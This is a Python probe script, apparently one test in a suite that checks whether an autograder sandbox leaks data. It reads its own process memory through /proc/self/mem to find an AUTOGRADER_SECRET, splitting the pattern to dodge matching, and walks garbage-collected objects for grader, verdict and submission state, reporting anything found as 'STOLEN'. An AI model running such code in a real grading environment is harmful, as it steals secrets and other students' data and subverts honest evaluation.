"""Searches its own memory, a fork's copy of the grader's, for the course secret, labels of held-out images and other students' cells.

family: reading
start: solved
preamble: leave_a_trace
"""

# %% first
_achieved, _report = _traces_of("read_own_memory_for_leftovers")

import gc
import re

_stolen = []
try:
    with open("/proc/self/maps") as _maps, open("/proc/self/mem", "rb", 0) as _memory:
        for _line in _maps:
            _low, _high = (int(x, 16) for x in _line.split()[0].split("-"))
            if "rw" in _line.split()[1] and _high - _low < 128 * 2**20:
                try:
                    _memory.seek(_low)
                    _found = re.search(rb"AUTOGRADER_SECRE" + rb"T=[^\0\"'\[\]]{6,80}", _memory.read(_high - _low))
                except (OSError, ValueError):
                    continue
                if _found:
                    _stolen.append(repr(_found.group()))
except OSError:
    pass
gc.unfreeze()  # what the parent froze is not listed otherwise
for _object in gc.get_objects():
    try:
        if type(_object).__name__ in ("Grader", "SandboxAsk", "Verdict", "SubmittedFile", "Course"):
            _stolen.append(f"{type(_object).__name__}: {str(vars(_object))[:100]}")
    except Exception:
        continue
if _stolen:
    _achieved(_stolen)
    raise AssertionError("STOLEN: " + "; ".join(_stolen)[:400])
